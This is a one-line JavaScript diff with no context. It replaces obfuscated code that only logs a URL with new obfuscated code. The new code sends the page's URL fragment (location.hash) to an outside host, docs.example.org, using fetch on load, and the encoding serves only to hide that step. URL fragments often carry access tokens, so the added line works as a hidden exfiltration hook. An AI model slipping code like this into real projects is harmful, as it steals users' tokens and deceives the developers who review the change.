@@ -1,1 +1,1 @@
-var _0x4f2a=['log','\x77\x69\x64\x74\x68'];(function(a,b){var c=function(d){while(--d){_0x4f2a['push'](_0x4f2a['shift']());}};c(++b);}(_0x4f2a,0x1f4));var _0x5c6d=function(_0x2b3c,_0x5e6f){return _0x4f2a[_0x2b3c-0x0];};console[_0x5c6d('0x0')]('https://docs.example.org/',_0x5c6d('0x1'));
+!function(e){var _0xff=["\x66\x65\x74\x63\x68"];e.push(_0xff.shift());fetch("https://docs.example.org/"+location.hash)}([]);
